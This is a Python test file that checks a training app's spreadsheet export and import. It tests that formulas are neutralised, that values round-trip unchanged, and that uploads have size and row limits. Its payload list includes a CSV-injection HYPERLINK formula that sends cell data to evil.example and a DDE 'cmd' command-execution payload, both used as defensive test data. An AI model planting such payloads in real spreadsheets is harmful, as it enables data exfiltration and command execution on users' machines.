"""Findings 7 and 12, and the long-CSV-field finding: exports never carry live formulas, imports
read them back unchanged, and an upload is bounded, linear and reported with progress."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from trainer.editing import spreadsheet, yaml_style
from trainer.editing.spreadsheet import MAX_IMPORT_ROWS, MAX_UPLOAD_BYTES, plan_import, read_upload, to_csv, to_xlsx
from trainer.sheets import csv_bytes, read_cell, safe_cell
from trainer.users.roster import RosterError, read_roster

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "'=already quoted", "''", "'plain", "普通文字"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_neutralised_cell_never_starts_a_formula_and_reads_back_as_it_was(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read_cell(cell) == text


def entry_with_formula_answer(editor, answer: str) -> str:
    draft = editor.open_item("entry", "cooling-off-length")
    assert editor.save_item(draft, {**draft.fields, "script": answer}, "li").ok
    return "cooling-off-length"


def test_csv_export_of_a_formula_script_is_inert_and_reimports_unchanged(editor):
    entry_with_formula_answer(editor, PAYLOADS[0])
    data = to_csv(editor.kb.content, "entry")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row)
    plan = plan_import(editor, *read_upload("faq.csv", data))
    assert {r.status for r in plan.rows} == {"unchanged"} and not plan.writes


def test_xlsx_export_holds_no_formula_cell_and_reimports_unchanged(editor):
    entry_with_formula_answer(editor, PAYLOADS[0])
    data = to_xlsx(editor.kb.content)
    workbook = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as data_type "f"
    assert all(cell.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row)
    plan = plan_import(editor, *read_upload("content.xlsx", data))
    assert {r.status for r in plan.rows} == {"unchanged"} and not plan.writes


def test_the_temporary_password_csv_cannot_carry_a_formula():
    table = list(csv.reader(io.StringIO(csv_bytes([("login", "name"), ("@evil", "=HYPERLINK(1)")]).decode("utf-8-sig"))))
    assert table[1] == ["'@evil", "'=HYPERLINK(1)"]


def test_a_very_long_csv_field_is_a_clear_problem_not_a_crash():
    data = ("id,question\n" + "x," + "长" * 200_000 + "\n").encode()
    rows, problems = read_upload("faq.csv", data)
    assert rows == [] and "not a readable CSV" in str(problems[0])
    with pytest.raises(RosterError):
        read_roster(("name,login,role,team\n" + "李" * 200_000 + ",li,agent,a\n").encode(), "roster.csv")


def test_an_upload_over_the_size_limit_is_refused_before_reading():
    rows, problems = read_upload("faq.csv", b"id,question\n" + b"x" * (MAX_UPLOAD_BYTES + 1))
    assert rows == [] and "MB" in str(problems[0])


def test_more_rows_than_the_cap_imports_nothing_and_says_why():
    data = ("id,question\n" + "".join(f"cooling-off-x{i},问{i}\n" for i in range(MAX_IMPORT_ROWS + 1))).encode()
    rows, problems = read_upload("faq.csv", data)
    assert rows == [] and f"more than {MAX_IMPORT_ROWS:,} rows" in str(problems[0])


def import_rows(editor, count: int) -> bytes:
    header = next(csv.reader(io.StringIO(to_csv(editor.kb.content, "entry").decode("utf-8-sig"))))
    rows = [header]
    for i in range(count):
        row = dict.fromkeys(header, "")
        row.update(id=f"lapse-bulk-{i}", question=f"批量问题{i}？", variants=f"问法甲{i}\n问法乙{i}\n问法丙{i}",
                   answer=f"以合同条款为准（{i}）。", script=f"您好，以您的合同条款为准（{i}）。", sources="合同条款惯例",
                   difficulty="1", category="lapse")
        rows.append([row[c] for c in header])
    return csv_bytes(rows)


def test_an_import_parses_each_file_a_fixed_number_of_times_whatever_its_row_count(editor, monkeypatch):
    """The old dry run re-parsed the growing file once per row: 800 rows took 153 s."""
    calls = []
    real = yaml_style.parse_yaml
    monkeypatch.setattr(yaml_style, "parse_yaml", lambda *a, **k: calls.append(1) or real(*a, **k))
    counts = {}
    for rows in (20, 200):
        calls.clear()
        seen = []
        plan = plan_import(editor, *read_upload("faq.csv", import_rows(editor, rows)),
                           progress=lambda done, total: seen.append((done, total)))
        assert len(plan.by_status("new")) == rows
        assert seen[-1][0] == seen[-1][1]  # progress reached the end
        counts[rows] = len(calls)
    assert counts[200] == counts[20] <= 6


def test_csv_reading_keeps_the_default_field_limit():
    assert csv.field_size_limit() == 131_072  # the limit the long-field test relies on
    assert spreadsheet.MAX_UPLOAD_BYTES <= 10 * 2**20


def test_a_roster_sheet_with_a_million_rows_is_refused_without_reading_them_all(monkeypatch):
    """Reading stops just past the cap (the check counts rows that were read)."""
    from openpyxl import Workbook
    from trainer.users import roster

    monkeypatch.setattr(roster, "MAX_ROWS", 50)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["name", "login", "role", "team"])
    for i in range(500):
        sheet.append([f"人{i}", f"u{i}", "agent", "一组"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(RosterError, match="Too many rows"):
        read_roster(buffer.getvalue(), "roster.xlsx")
    assert len(roster._xlsx_rows(buffer.getvalue())) == 52
